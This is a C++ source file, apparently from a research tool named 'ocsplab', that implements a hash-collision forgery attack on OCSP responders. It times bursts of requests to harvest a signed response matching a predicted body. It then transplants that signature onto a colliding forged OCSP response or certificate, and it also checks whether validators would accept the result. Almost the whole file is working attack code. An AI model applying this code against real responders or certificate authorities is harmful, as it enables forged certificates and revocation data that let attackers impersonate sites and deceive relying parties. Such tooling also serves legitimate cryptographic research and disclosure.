#include "ocsplab/attacker.hpp"

#include <cmath>

#include "ocsplab/error.hpp"
#include "ocsplab/textio.hpp"

namespace ocsplab {

namespace {

HashSpec hash_of(const AlgorithmIdentifier& alg) {
  auto spec = HashSpec::from_signature_oid(alg.oid);
  if (!spec) throw Error(Errc::unsupported_feature, "unknown signature algorithm " + alg.oid);
  return *spec;
}

}  // namespace

std::vector<Instant> burst_schedule(Instant fire_at, const TimingPolicy& policy) {
  if (policy.rate <= 0) throw Error(Errc::invalid_argument, "burst rate must be positive");
  const double seconds = std::chrono::duration<double>(policy.window).count();
  const auto planned = static_cast<std::uint64_t>(std::llround(seconds * policy.rate));
  const std::uint64_t n = std::min(std::max<std::uint64_t>(planned, 1), policy.abort_after);
  const Instant first = fire_at - policy.round_trip / 2 - policy.window / 2;
  std::vector<Instant> out;
  out.reserve(n);
  for (std::uint64_t k = 0; k < n; ++k) {
    const double offset_ms = (static_cast<double>(k) + 0.5) * 1000.0 / policy.rate;
    out.push_back(first + Duration(static_cast<Duration::rep>(std::llround(offset_ms))));
  }
  return out;
}

ForgedArtifact splice(ByteView forged_tbs, const BasicOcspResponse& harvested, ContentKind kind) {
  const HashSpec spec = hash_of(harvested.signature_algorithm);
  if (digest(spec, forged_tbs) != digest(spec, harvested.tbs_raw)) {
    throw Error(Errc::digest_mismatch, "forged body and harvested body have different " + spec.name() + " digests");
  }
  ForgedArtifact a;
  a.kind = kind;
  a.tbs_bytes.assign(forged_tbs.begin(), forged_tbs.end());
  a.signature_algorithm = harvested.signature_algorithm;
  a.signature = harvested.signature;
  if (!harvested.certs.empty()) a.signer_certificate = harvested.certs.front();
  if (kind == ContentKind::ocsp_response) {
    a.framed = frame_basic_ocsp_response(a.tbs_bytes, a.signature_algorithm, a.signature, harvested.certs);
  } else {
    a.framed = frame_certificate(a.tbs_bytes, a.signature_algorithm, a.signature);
  }
  return a;
}

AttackOutcome execute(const CollisionCandidate& candidate, const SourceGenerator& gen2, ContentKind kind,
                      Transport& transport, const TimingPolicy& policy) {
  if (!candidate.recipe) throw Error(Errc::invalid_argument, "candidate carries no request recipe");
  if (candidate.h2_generator != gen2.id) {
    throw Error(Errc::invalid_argument, "candidate was found against generator '" + candidate.h2_generator + "'");
  }
  const RequestRecipe& recipe = *candidate.recipe;
  const std::vector<Instant> sends = burst_schedule(recipe.fire_at, policy);
  Clock& clock = transport.clock();

  AttackOutcome out;
  if (clock.now() > sends.front()) {
    out.failure = Errc::window_missed;
    out.detail = "burst start " + format_instant(sends.front()) + " already passed at " + format_instant(clock.now());
    return out;
  }

  std::vector<Bytes> log;
  for (Instant send : sends) {
    clock.sleep_until(send);
    const Exchange ex = transport.exchange(recipe.request);
    ++out.requests_sent;
    if (ex.aborted) {
      ++out.aborted;
      continue;
    }
    ++out.responses;
    log.push_back(ex.response);
    OcspResponse outer;
    BasicOcspResponse basic;
    try {
      outer = decode_ocsp_response(ex.response);
      if (outer.status != ResponseStatus::successful) {
        ++out.rejected;
        continue;
      }
      basic = decode_basic_ocsp_response(outer.basic_response);
    } catch (const Error& e) {
      throw Error(Errc::transport_error, std::string("undecodable response during burst: ") + e.what());
    }
    if (basic.tbs_raw != recipe.predicted_tbs) continue;
    ++out.matches;
    out.matched_at = ex.sent_at;
    const Bytes forged = gen2.produce(candidate.h2_index);
    try {
      ForgedArtifact a = splice(forged, basic, kind);
      a.harvest_log = std::move(log);
      out.artifact = std::move(a);
    } catch (const Error& e) {
      if (e.code() != Errc::digest_mismatch) throw;
      out.failure = Errc::digest_mismatch;
      out.detail = e.what();
    }
    return out;
  }
  out.failure = Errc::window_missed;
  out.detail = "no response matched the prediction for " + format_instant(recipe.t) + " after " +
               std::to_string(out.requests_sent) + " requests";
  return out;
}

Verdict validate_artifact(const ForgedArtifact& a, const SignerIdentity& signer, ValidatorPolicy policy,
                          std::optional<Duration> freshness_threshold) {
  Verdict v;
  const auto spec = HashSpec::from_signature_oid(a.signature_algorithm.oid);
  if (spec) {
    const Verification check = verify(signer, a.tbs_bytes, a.signature, *spec, a.kind, policy);
    v.signature_valid = check.valid && a.signature_algorithm == signer.with_hash(*spec).signature_algorithm();
    v.policy_eligible = check.policy_eligible;
  }
  if (a.kind == ContentKind::ocsp_response) {
    try {
      const TbsResponseData tbs = decode_tbs_response_data(a.tbs_bytes);
      for (const auto& single : tbs.responses) {
        if (!single.next_update) continue;
        const Duration life = single.next_update->instant - single.this_update.instant;
        if (!v.lifetime || life > *v.lifetime) v.lifetime = life;
      }
    } catch (const Error&) {
      v.signature_valid = false;
    }
    if (freshness_threshold) v.fresh = v.lifetime.value_or(Duration(0)) <= *freshness_threshold;
  }
  v.accepted = v.signature_valid && v.policy_eligible && v.fresh.value_or(true);
  return v;
}

std::string serialize_artifact(const ForgedArtifact& a) {
  KvRecord r;
  r.add("format", "ocsplab-artifact-1");
  r.add("kind", a.kind == ContentKind::ocsp_response ? "ocsp_response" : "certificate");
  r.add("tbs", to_hex(a.tbs_bytes));
  r.add("signature_algorithm", a.signature_algorithm.oid);
  if (a.signature_algorithm.parameters) r.add("signature_parameters", to_hex(*a.signature_algorithm.parameters));
  r.add("signature", to_hex(a.signature));
  r.add("signer_certificate", to_hex(a.signer_certificate));
  r.add("framed", to_hex(a.framed));
  for (const Bytes& h : a.harvest_log) r.add("harvested", to_hex(h));
  return r.render();
}

ForgedArtifact parse_artifact(std::string_view text) {
  const KvRecord r = KvRecord::parse(text);
  if (r.require("format") != "ocsplab-artifact-1") throw Error(Errc::malformed_record, "not an artifact record");
  ForgedArtifact a;
  const std::string kind = r.require("kind");
  if (kind == "ocsp_response") a.kind = ContentKind::ocsp_response;
  else if (kind == "certificate") a.kind = ContentKind::certificate;
  else throw Error(Errc::malformed_record, "unknown artifact kind '" + kind + "'");
  a.tbs_bytes = from_hex(r.require("tbs"));
  a.signature_algorithm.oid = r.require("signature_algorithm");
  if (auto p = r.get("signature_parameters")) a.signature_algorithm.parameters = from_hex(*p);
  a.signature = from_hex(r.require("signature"));
  a.signer_certificate = from_hex(r.require("signer_certificate"));
  a.framed = from_hex(r.require("framed"));
  for (const std::string& h : r.all("harvested")) a.harvest_log.push_back(from_hex(h));
  return a;
}

std::string describe_outcome(const AttackOutcome& o) {
  KvRecord r;
  r.add("result", o.success() ? "forged" : std::string(errc_name(o.failure.value_or(Errc::window_missed))));
  if (!o.detail.empty()) r.add("detail", o.detail);
  r.add("requests_sent", std::to_string(o.requests_sent));
  r.add("responses", std::to_string(o.responses));
  r.add("matches", std::to_string(o.matches));
  r.add("aborted", std::to_string(o.aborted));
  r.add("rejected", std::to_string(o.rejected));
  if (o.matched_at) r.add("matched_at", format_instant(*o.matched_at));
  return r.render();
}

}  // namespace ocsplab
